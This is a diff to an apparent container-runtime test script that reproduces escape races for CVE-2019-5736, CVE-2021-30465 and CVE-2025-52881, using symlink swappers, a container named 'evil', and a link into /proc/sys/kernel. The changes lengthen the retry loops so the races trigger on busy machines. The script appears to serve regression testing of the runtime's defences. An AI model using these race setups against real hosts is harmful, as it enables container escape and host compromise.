@@ -91,8 +91,11 @@ cve_2019_5736_exec() {
 				done
 				sleep 0.01
 			done" >/dev/null || die run
+		# CVE_N execs, and on (10 x CVE_N at most) until the container has seen one: an
+		# exec of true is brief, and a busy machine may hide the first ones from its loop
 		i=0; ok=0
-		while [ $i -lt $CVE_N ]; do
+		while [ $i -lt $CVE_N ] || { [ $i -lt $((CVE_N * 10)) ] &&
+			! mr exec evil cat /tmp/log 2>/dev/null | grep -q SEEN; }; do
 			mr exec evil true && ok=$((ok + 1))
 			i=$((i + 1))
 		done
@@ -199,8 +202,11 @@ cve_2021_30465() {
 		mr run -d --name swap --network none -v escvol:/data -v $SWDIR:/sw:ro busybox sh -c \
 			"mkdir -p /data/sub && ln -s $C/dir /data/link && exec /sw/swapper /data/sub /data/link" \
 			>/dev/null || die "run the swapper"
+		# CVE_N runs, and on (5 x CVE_N at most) until one has started: a run whose
+		# destination is the link at that moment is refused, and on a busy machine the
+		# first CVE_N may all meet it
 		i=0; ok=0; seen=0
-		while [ $i -lt $CVE_N ]; do
+		while [ $i -lt $CVE_N ] || { [ $ok -eq 0 ] && [ $i -lt $((CVE_N * 5)) ]; }; do
 			out=$(mr run --rm --network none -v escvol:/data -v $R/../payload:/data/sub:ro busybox \
 				sh -c "cat $C/dir/payload-file 2>/dev/null; ls /data/sub" 2>/dev/null) && ok=$((ok + 1))
 			# the payload may well land on the container'"'"'s own $C/dir (the link, resolved
@@ -209,7 +215,7 @@ cve_2021_30465() {
 			canary_ok
 			i=$((i + 1))
 		done
-		echo "$ok of $CVE_N runs started ($seen with the link followed inside the rootfs)"
+		echo "$ok of $i runs started ($seen with the link followed inside the rootfs)"
 		[ $ok -gt 0 ] || die "no run started: the race was never run"
 		mr rm -f swap >/dev/null
 		mr volume rm escvol >/dev/null || die "volume rm"
@@ -387,7 +393,7 @@ cve_2025_52881() {
 			"mkdir -p /data/sub && ln -s /proc/sys/kernel /data/link && exec /sw/swapper /data/sub /data/link" \
 			>/dev/null || die "run the swapper"
 		i=0; ok=0
-		while [ $i -lt 10 ]; do
+		while [ $i -lt 10 ] || { [ $ok -eq 0 ] && [ $i -lt 50 ]; }; do
 			mr run --rm --network none -v racevol:/data -v $R/../payload:/data/sub/x busybox \
 				true >/dev/null 2>&1 && ok=$((ok + 1))
 			i=$((i + 1))
